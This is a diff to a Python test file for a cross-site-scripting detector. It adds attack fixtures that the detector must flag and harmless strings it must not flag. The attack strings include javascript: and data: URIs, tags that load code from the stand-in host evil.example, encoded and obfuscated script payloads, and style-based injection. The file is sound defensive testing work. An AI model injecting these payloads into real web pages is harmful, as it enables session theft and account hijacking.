@@ -85,6 +85,8 @@ ATTACKS = {
         "javascript:location='//evil.example'",
         'vbscript:msgbox("x")',
         "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "data:,<em>x",
+        " data: text/plain;charset=utf-7, </p>",
         "[click](javascript:alert(1))",
         "![x](javascript:alert(1))",
         "[url=javascript:alert(1)]x[/url]",
@@ -107,6 +109,8 @@ ATTACKS = {
         "<embed src=//evil.example/x.swf>",
         "<link rel=stylesheet href=//evil.example/x.css>",
         '<object type="text/html" data="//evil">',
+        "<:embed src=//evil.example/x.swf>",
+        "<import namespace=x implementation=//evil.example/x.htc>",
     ),
     "xss.breakout": (
         '" onfocus=alert(1) autofocus x="',
@@ -124,6 +128,8 @@ ATTACKS = {
     "xss.style": (
         "<style>@import '//evil.example/x.css';</style>",
         '<div style="width:expression(alert(1))">',
+        "<style>\\69mport",
+        "<style type=x>\n*{x\\3a y",
     ),
     "xss.dangling": ("<img src='https://evil.example/log?",),
     "xss.javascript": (
@@ -156,6 +162,9 @@ ATTACKS = {
         "1;alert(1)",
         "1-alert(1)",
         "*/alert(1)/*",
+        "Array.prototype.map.call`${1}`",
+        "x.sort.apply`1`",
+        "'+[alert][0](1)+'",
         "alert(document.cookie)",
         "eval(name)",
         'top["al"+"ert"](1)',
@@ -176,6 +185,12 @@ ATTACKS = {
         "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
         "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]",
         "¼script¾alert(¢xss¢)¼/script¾",
+        "¼em class=x¾hello¼/em¾",
+        "+ADw-em+AD4-hello+ADw-/em+AD4-",
+        "< script>x",
+        "<  iframe src=//evil.example>",
+        "< svg : script",
+        "<a:  object data=//evil.example>",
     ),
 }
 HARMLESS = (
@@ -328,6 +343,19 @@ HARMLESS = (
     "mailto:someone@example.com",
     "base64: SGVsbG8gV29ybGQ=",
     "on = off",
+    "alerts_url",
+    '"alerts":[],"prompts":{"eval_count":3},"confirmed":true',
+    "a < script",
+    "x < object.size",
+    "<:party_parrot:182093>",
+    "if n < iframe_count and n > 3",
+    "Use the <style> tag in C:\\site\\index.html",
+    "data: , then a comma",
+    "Data: 5, <b>x</b>",
+    "¼ cup of sugar and ¾ cup of <b>milk</b>",
+    "¼em¾ is a width",
+    "arr.map `x` in the tutorial",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'></svg>",
     "On error=42 stop",
     "version = 1.0; option=2; onboarding=done",
     'a="get";',
@@ -410,6 +438,24 @@ def test_attack(scan: Scan, rule: str, text: str) -> None:
     assert (judgement.rule, judgement.score >= 5) == (rule, True)
     assert judgement.evidence
     assert len(judgement.evidence) <= 120
+
+
+@pytest.mark.parametrize(
+    "name", [" onxyzzy=", "onload = ", "a/onfoobar=1", '"onwhatever=x', "x onerror\t="]
+)
+def test_nobody_calls_a_parameter_like_a_handler(scan: Scan, name: str) -> None:
+    judgement = DETECTOR.judge(name, Context("query", name, is_name=True))
+
+    assert scan(name.encode())
+    assert judgement is not None
+    assert judgement.score >= 5
+
+
+@pytest.mark.parametrize("name", ["onload", "online", "once=", "common=1", "options[on]", "on=x"])
+def test_parameters_that_begin_alike_pass(name: str) -> None:
+    judgement = DETECTOR.judge(name, Context("query", name, is_name=True))
+
+    assert judgement is None or judgement.score < 5
 
 
 @pytest.mark.parametrize("content", ["text", "prose"])
